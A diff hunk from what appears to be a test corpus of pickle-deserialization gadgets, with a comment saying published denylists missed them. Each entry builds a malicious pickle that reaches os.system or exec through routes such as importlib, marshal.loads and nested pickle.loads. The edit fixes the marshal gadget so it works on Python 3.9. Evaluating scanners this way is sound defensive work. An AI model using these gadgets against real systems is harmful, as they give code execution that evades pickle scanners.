@@ -162,7 +162,7 @@ TECHNIQUES = [
     ("sys.modules-getitem", "eval", "loads", lambda p: assemble(Call(Call(G("builtins", "getattr"), Call(G("operator", "getitem"), G("sys", "modules"), "os"), "system"), touch(p)))),
     ("importlib.import_module", "eval", "loads", lambda p: assemble(Call(Call(G("builtins", "getattr"), Call(G("importlib", "import_module"), "os"), "system"), touch(p)))),
     ("compile-code-object-exec", "eval", "loads", lambda p: assemble(Call(G("builtins", "exec"), Call(G("builtins", "compile"), py_touch(p), "<x>", "exec")))),
-    ("marshal.loads-FunctionType", "eval", "loads", lambda p: assemble(Call(Call(G("types", "FunctionType"), Call(G("marshal", "loads"), _inner_code(p)), {})), 4)),
+    ("marshal.loads-FunctionType", "eval", "loads", lambda p: assemble(Call(Call(G("types", "FunctionType"), Call(G("marshal", "loads"), _inner_code(p)), Call(G("builtins", "globals")))), 4)),  # the loader's globals: 3.9 finds no builtins in {}
     ("pickle.loads-inner-pickle", "eval", "loads", lambda p: assemble(Call(G("pickle", "loads"), assemble(sh_call(p))), 4)),
     ("_pickle.loads-inner-pickle", "eval", "loads", lambda p: assemble(Call(G("_pickle", "loads"), assemble(sh_call(p))), 4)),
     # Gadgets that published denylists missed.
